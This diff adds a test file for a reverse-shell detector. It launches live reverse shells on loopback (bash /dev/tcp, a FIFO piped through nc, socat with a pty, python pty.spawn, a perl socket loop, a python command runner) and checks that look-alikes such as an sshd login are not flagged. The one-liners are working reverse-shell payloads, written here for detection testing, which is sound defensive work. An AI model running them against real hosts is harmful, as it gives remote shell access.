@@ -1,0 +1,385 @@
+/**
+ * Real reverse shells on loopback, seen through a real /proc snapshot.
+ * Every attack connects to a listener this test starts on 127.0.0.1; every process tree is killed
+ * (process group and each descendant, since `setsid` shells leave the group) after each test.
+ */
+import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createConnection, createServer, type Server, type Socket } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { detectReverseShells, type ReverseShellFinding } from '../../src/engines/revshell/index.js';
+import { listPids, readProcessSnapshot } from '../../src/host/procfs/read-snapshot.js';
+import { parseProcStat } from '../../src/host/procfs/parse-proc.js';
+import type { ProcessInfo, ProcessSnapshot } from '../../src/host/procfs/snapshot-types.js';
+
+function which(bin: string): string | null {
+  const r = spawnSync('sh', ['-c', `command -v ${bin}`], { encoding: 'utf8' });
+  return r.status === 0 ? r.stdout.trim() : null;
+}
+
+const NC = which('nc');
+const SOCAT = which('socat');
+const PERL = which('perl');
+const PYTHON = existsSync('/usr/bin/python3') ? '/usr/bin/python3' : which('python3');
+const SSHD = existsSync('/usr/sbin/sshd') && which('ssh') && which('ssh-keygen') ? '/usr/sbin/sshd' : null;
+
+const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));
+
+interface Listener {
+  port: number;
+  server: Server;
+  conns: Socket[];
+  received: () => string;
+  send: (text: string) => void;
+}
+
+async function startListener(): Promise<Listener> {
+  const conns: Socket[] = [];
+  let data = '';
+  const server = createServer((s) => {
+    conns.push(s);
+    s.on('data', (b) => {
+      data += b.toString('utf8');
+    });
+    s.on('error', () => undefined);
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const addr = server.address();
+  if (addr === null || typeof addr === 'string') throw new Error('listener has no port');
+  return {
+    port: addr.port,
+    server,
+    conns,
+    received: () => data,
+    send: (text) => {
+      for (const c of conns) c.write(text);
+    },
+  };
+}
+
+/** Pids whose ppid chain leads to `root`, from /proc. */
+function descendants(root: number): number[] {
+  const parent = new Map<number, number>();
+  for (const pid of listPids()) {
+    try {
+      const st = parseProcStat(readFileSync(`/proc/${pid}/stat`, 'utf8'));
+      if (st) parent.set(pid, st.ppid);
+    } catch {
+      // exited while listing
+    }
+  }
+  const out: number[] = [];
+  for (const pid of parent.keys()) {
+    let cur: number | undefined = pid;
+    for (let i = 0; i < 64 && cur !== undefined && cur > 1; i++) {
+      cur = parent.get(cur);
+      if (cur === root) {
+        out.push(pid);
+        break;
+      }
+    }
+  }
+  return out;
+}
+
+const started: number[] = [];
+const tempDirs: string[] = [];
+let listener: Listener | null = null;
+
+function launch(argv: string[]): number {
+  return launchChild(argv, 'ignore').pid as number;
+}
+
+function launchChild(argv: string[], stdin: 'ignore' | 'pipe'): ChildProcess {
+  const [bin, ...args] = argv;
+  if (!bin) throw new Error('empty argv');
+  const child = spawn(bin, args, { detached: true, stdio: [stdin, 'ignore', 'ignore'] });
+  child.on('error', () => undefined);
+  if (child.pid === undefined) throw new Error(`could not start ${bin}`);
+  child.unref();
+  started.push(child.pid);
+  return child;
+}
+
+function kill(pid: number): void {
+  try {
+    process.kill(pid, 'SIGKILL');
+  } catch {
+    // already gone
+  }
+}
+
+beforeEach(async () => {
+  listener = await startListener();
+});
+
+afterEach(async () => {
+  for (const root of started.splice(0)) {
+    const tree = descendants(root);
+    try {
+      process.kill(-root, 'SIGKILL');
+    } catch {
+      // group already gone
+    }
+    kill(root);
+    for (const pid of tree) kill(pid);
+  }
+  if (listener) {
+    for (const c of listener.conns) c.destroy();
+    await new Promise<void>((resolve) => listener?.server.close(() => resolve()));
+    listener = null;
+  }
+  for (const d of tempDirs.splice(0)) rmSync(d, { recursive: true, force: true });
+});
+
+function snapshot(): ProcessSnapshot {
+  return readProcessSnapshot({ selfPid: process.pid });
+}
+
+function inTree(s: ProcessSnapshot, root: number): ProcessInfo[] {
+  const byPid = new Map(s.processes.map((p) => [p.pid, p]));
+  return s.processes.filter((p) => {
+    let cur: ProcessInfo | undefined = p;
+    for (let i = 0; i < 64 && cur; i++) {
+      if (cur.pid === root) return true;
+      cur = byPid.get(cur.ppid);
+    }
+    return false;
+  });
+}
+
+function findingsFor(s: ProcessSnapshot, root: number): ReverseShellFinding[] {
+  const tree = new Set(inTree(s, root).map((p) => p.pid));
+  return detectReverseShells(s, { selfPid: process.pid }).filter((f) => tree.has(f.pid));
+}
+
+/** Poll real snapshots until `ready` holds (bounded), then return that snapshot. */
+async function waitFor(ready: (s: ProcessSnapshot) => boolean, what: string, limitMs = 10_000): Promise<ProcessSnapshot> {
+  const until = Date.now() + limitMs;
+  for (;;) {
+    const s = snapshot();
+    if (ready(s)) return s;
+    if (Date.now() > until) throw new Error(`timed out waiting for ${what}`);
+    await sleep(150);
+  }
+}
+
+/** Proves the connection is a working shell: the listener sends arithmetic only a shell evaluates. */
+async function expectShellAnswers(l: Listener, marker: string): Promise<void> {
+  l.send(`echo ${marker}_$((6*7))\n`);
+  const until = Date.now() + 10_000;
+  while (!l.received().includes(`${marker}_42`)) {
+    if (Date.now() > until) throw new Error(`shell did not answer; got ${JSON.stringify(l.received().slice(-200))}`);
+    await sleep(100);
+  }
+}
+
+function shellIn(s: ProcessSnapshot, root: number, match: (p: ProcessInfo) => boolean): ProcessInfo | undefined {
+  return inTree(s, root).find(match);
+}
+
+describe('live reverse shells on loopback', () => {
+  it('class 1: bash -i >& /dev/tcp', async () => {
+    const l = listener as Listener;
+    const root = launch(['bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/${l.port} 0>&1`]);
+    const s = await waitFor((x) => findingsFor(x, root).length > 0 && l.conns.length > 0, 'class-1 finding');
+    const shell = shellIn(s, root, (p) => p.comm === 'bash' && p.fds.some((f) => f.fd === 0 && f.kind === 'socket'));
+    expect(shell).toBeDefined();
+    const f = findingsFor(s, root);
+    expect(f).toHaveLength(1);
+    expect(f[0]).toMatchObject({ class: 1, ruleId: 'revshell.stdio-socket', level: 'serious', pid: shell?.pid, holderPid: shell?.pid });
+    expect(f[0]?.peer).toMatchObject({ proto: 'tcp', remoteAddress: '127.0.0.1', remotePort: l.port });
+    await expectShellAnswers(l, 'C1');
+  });
+
+  it.skipIf(!NC)('class 2 via pipes and a FIFO: cat F | sh -i | nc > F', async () => {
+    const l = listener as Listener;
+    const dir = mkdtempSync(join(tmpdir(), 'vigil-revshell-'));
+    tempDirs.push(dir);
+    const fifo = join(dir, 'f');
+    const root = launch(['sh', '-c', `rm -f ${fifo}; mkfifo ${fifo}; cat ${fifo} | sh -i 2>&1 | ${NC} 127.0.0.1 ${l.port} > ${fifo}`]);
+    const s = await waitFor((x) => findingsFor(x, root).some((f) => f.class === 2) && l.conns.length > 0, 'class-2 pipe finding');
+    const shell = shellIn(s, root, (p) => p.cmdline.join(' ') === 'sh -i');
+    const nc = shellIn(s, root, (p) => p.comm.startsWith('nc'));
+    expect(shell && nc).toBeTruthy();
+    const f = findingsFor(s, root).filter((x) => x.class === 2);
+    expect(f).toHaveLength(1);
+    expect(f[0]).toMatchObject({ ruleId: 'revshell.relayed-stdio', level: 'serious', pid: shell?.pid, holderPid: nc?.pid });
+    expect(f[0]?.peer?.remotePort).toBe(l.port);
+    expect(f[0]?.via.map((h) => h.link)).toContain('pipe');
+    // The parent `sh -c … mkfifo …` is part of the chain, not a second alert.
+    expect(findingsFor(s, root)).toHaveLength(1);
+    await expectShellAnswers(l, 'C2P');
+  });
+
+  it.skipIf(!SOCAT)('class 2 via a pty: socat exec:bash -li,pty,setsid', async () => {
+    const l = listener as Listener;
+    const root = launch([SOCAT as string, "exec:'bash -li',pty,stderr,setsid,sigint,sane", `tcp:127.0.0.1:${l.port}`]);
+    const s = await waitFor((x) => findingsFor(x, root).some((f) => f.class === 2) && l.conns.length > 0, 'class-2 pty finding');
+    const shell = shellIn(s, root, (p) => p.comm === 'bash');
+    expect(shell?.fds.find((f) => f.fd === 0)?.kind).toBe('pts');
+    const f = findingsFor(s, root);
+    expect(f).toHaveLength(1);
+    expect(f[0]).toMatchObject({ class: 2, level: 'serious', pid: shell?.pid, holderPid: root });
+    expect(f[0]?.via[0]).toMatchObject({ pid: root, link: 'pty' });
+    expect(f[0]?.peer?.remotePort).toBe(l.port);
+    await expectShellAnswers(l, 'C2T');
+  });
+
+  it.skipIf(!PYTHON)('class 2 via a pty held by python pty.spawn over a socket', async () => {
+    const l = listener as Listener;
+    const code = `import os,pty,socket;s=socket.socket();s.connect(("127.0.0.1",${l.port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`;
+    const root = launch([PYTHON as string, '-c', code]);
+    const s = await waitFor((x) => findingsFor(x, root).length > 0 && l.conns.length > 0, 'python pty finding');
+    const shell = shellIn(s, root, (p) => p.ppid === root && p.comm === 'sh');
+    const f = findingsFor(s, root);
+    expect(f).toHaveLength(1);
+    expect(f[0]).toMatchObject({ class: 2, level: 'serious', pid: shell?.pid, holderPid: root });
+    expect(f[0]?.peer?.remotePort).toBe(l.port);
+    await expectShellAnswers(l, 'C2Y');
+  });
+
+  it.skipIf(!PERL)('class 3: perl socket loop running commands through system()', async () => {
+    const l = listener as Listener;
+    const code = `$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:${l.port}");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`;
+    const root = launch([PERL as string, '-MIO', '-e', code]);
+    const s = await waitFor((x) => findingsFor(x, root).length > 0 && l.conns.length > 0, 'perl class-3 finding');
+    const f = findingsFor(s, root);
+    expect(f).toHaveLength(1);
+    expect(f[0]).toMatchObject({ class: 3, ruleId: 'revshell.interpreter-cmdline', level: 'serious', pid: root, holderPid: root });
+    expect(f[0]?.peer?.remotePort).toBe(l.port);
+    await expectShellAnswers(l, 'C3P');
+  });
+
+  it.skipIf(!PYTHON)('class 3: python script file running received commands with a shell', async () => {
+    const l = listener as Listener;
+    const dir = mkdtempSync(join(tmpdir(), 'vigil-revshell-'));
+    tempDirs.push(dir);
+    const script = join(dir, 'worker.py');
+    // Nothing in argv gives it away: only the topology (outbound socket + shell child) does.
+    writeFileSync(
+      script,
+      [
+        'import socket, subprocess, sys',
+        's = socket.create_connection(("127.0.0.1", int(sys.argv[1])))',
+        'f = s.makefile("rb")',
+        'for line in f:',
+        '    r = subprocess.run(line.decode(), shell=True, capture_output=True)',
+        '    s.sendall(r.stdout + r.stderr)',
+        '',
+      ].join('\n'),
+    );
+    const root = launch([PYTHON as string, script, String(l.port)]);
+    await waitFor(() => l.conns.length > 0, 'connection');
+    // A command that keeps its shell alive (a lone `sleep` would be exec'd in place of the shell).
+    l.send('sleep 30; echo done\n');
+    const s = await waitFor((x) => findingsFor(x, root).length > 0, 'python class-3 finding');
+    const shell = shellIn(s, root, (p) => p.ppid === root && p.comm === 'sh');
+    const f = findingsFor(s, root);
+    expect(f).toHaveLength(1);
+    expect(f[0]).toMatchObject({ class: 3, ruleId: 'revshell.interpreter-shell', pid: shell?.pid, holderPid: root });
+    expect(f[0]?.peer?.remotePort).toBe(l.port);
+  });
+});
+
+describe('live look-alikes that are not reverse shells', () => {
+  it('a shell pipeline with no network peer', async () => {
+    const root = launch(['bash', '-c', 'sleep 30 | cat']);
+    const s = await waitFor((x) => inTree(x, root).some((p) => p.comm === 'sleep') && inTree(x, root).some((p) => p.comm === 'cat'), 'pipeline');
+    expect(findingsFor(s, root)).toEqual([]);
+  });
+
+  it('a shell that holds a connected socket off stdio (bash /dev/tcp fetch into cat)', async () => {
+    const l = listener as Listener;
+    const root = launch(['bash', '-c', `exec 3<>/dev/tcp/127.0.0.1/${l.port}; cat <&3 > /dev/null`]);
+    const s = await waitFor((x) => l.conns.length > 0 && inTree(x, root).some((p) => p.comm === 'cat'), 'fetch');
+    expect(findingsFor(s, root)).toEqual([]);
+  });
+
+  it.skipIf(!SOCAT)('a listener process alone, and after a client connects', async () => {
+    const l = listener as Listener;
+    await new Promise<void>((resolve) => l.server.close(() => resolve()));
+    const root = launch([SOCAT as string, '-u', `TCP-LISTEN:${l.port},bind=127.0.0.1,reuseaddr`, 'STDOUT']);
+    const listening = (x: ProcessSnapshot): boolean =>
+      x.inetSockets.some((k) => k.state === 'LISTEN' && k.localPort === l.port && inTree(x, root).some((p) => p.fds.some((f) => f.inode === k.inode)));
+    const s1 = await waitFor(listening, 'socat listening');
+    expect(findingsFor(s1, root)).toEqual([]);
+    const client = createConnection({ host: '127.0.0.1', port: l.port });
+    client.on('error', () => undefined);
+    try {
+      const s2 = await waitFor(
+        (x) => x.inetSockets.some((k) => k.state === 'ESTABLISHED' && k.localPort === l.port && inTree(x, root).some((p) => p.fds.some((f) => f.inode === k.inode))),
+        'socat accepted the client',
+      );
+      expect(findingsFor(s2, root)).toEqual([]);
+    } finally {
+      client.destroy();
+    }
+  });
+
+  it.skipIf(!PYTHON)('python3 -m http.server with a client connected', async () => {
+    const l = listener as Listener;
+    await new Promise<void>((resolve) => l.server.close(() => resolve()));
+    const root = launch([PYTHON as string, '-m', 'http.server', '--bind', '127.0.0.1', String(l.port)]);
+    await waitFor((x) => x.inetSockets.some((k) => k.state === 'LISTEN' && k.localPort === l.port), 'http.server listening');
+    const res = await fetch(`http://127.0.0.1:${l.port}/`);
+    expect(res.status).toBe(200);
+    await res.text();
+    expect(findingsFor(snapshot(), root)).toEqual([]);
+  });
+
+  it('script(1) holding a pty for a shell, with no network', async () => {
+    const root = launch(['script', '-qfc', 'sh -c "sleep 30; true"', '/dev/null']);
+    const s = await waitFor((x) => inTree(x, root).some((p) => p.comm === 'sleep'), 'script session');
+    expect(findingsFor(s, root)).toEqual([]);
+  });
+
+  it.skipIf(!SSHD)('a real ssh login on loopback: sshd holds the socket and the pty master', async () => {
+    const l = listener as Listener;
+    await new Promise<void>((resolve) => l.server.close(() => resolve()));
+    const dir = mkdtempSync(join(tmpdir(), 'vigil-sshd-'));
+    tempDirs.push(dir);
+    for (const k of ['host_key', 'client_key']) {
+      expect(spawnSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(dir, k)]).status).toBe(0);
+    }
+    writeFileSync(join(dir, 'authorized_keys'), readFileSync(join(dir, 'client_key.pub')));
+    chmodSync(join(dir, 'authorized_keys'), 0o600);
+    writeFileSync(
+      join(dir, 'sshd_config'),
+      [
+        `Port ${l.port}`,
+        'ListenAddress 127.0.0.1',
+        `HostKey ${join(dir, 'host_key')}`,
+        `AuthorizedKeysFile ${join(dir, 'authorized_keys')}`,
+        'PermitRootLogin prohibit-password',
+        'PasswordAuthentication no',
+        'KbdInteractiveAuthentication no',
+        'UsePAM no',
+        'StrictModes no',
+        `PidFile ${join(dir, 'sshd.pid')}`,
+        '',
+      ].join('\n'),
+    );
+    // sshd's privilege-separation directory; Debian's service script normally creates it.
+    mkdirSync('/run/sshd', { recursive: true });
+    const daemon = launch([SSHD as string, '-D', '-e', '-f', join(dir, 'sshd_config')]);
+    await waitFor((x) => x.inetSockets.some((k) => k.state === 'LISTEN' && k.localPort === l.port), 'sshd listening');
+    const client = launchChild(
+      ['ssh', '-tt', '-i', join(dir, 'client_key'), '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'BatchMode=yes', '-p', String(l.port), 'root@127.0.0.1'],
+      'pipe',
+    );
+    client.stdin?.write('sleep 30\n');
+    const s = await waitFor((x) => inTree(x, daemon).some((p) => p.comm === 'sleep'), 'ssh session running sleep');
+    // The look-alike is real: a login shell on a pty whose master is held by sshd with a TCP peer.
+    const shell = inTree(s, daemon).find((p) => p.comm === 'bash' || p.comm === 'sh');
+    const pts = shell?.fds.find((f) => f.fd === 0)?.ptsIndex;
+    const master = inTree(s, daemon).find((p) => p.fds.some((f) => f.kind === 'ptmx' && f.ttyIndex === pts));
+    expect(master?.comm).toBe('sshd');
+    expect(master?.fds.some((f) => f.kind === 'socket' && s.inetSockets.some((k) => k.inode === f.inode && k.state === 'ESTABLISHED'))).toBe(true);
+    expect(findingsFor(s, daemon)).toEqual([]);
+    expect(findingsFor(s, client.pid as number)).toEqual([]);
+    client.stdin?.end();
+  });
+});
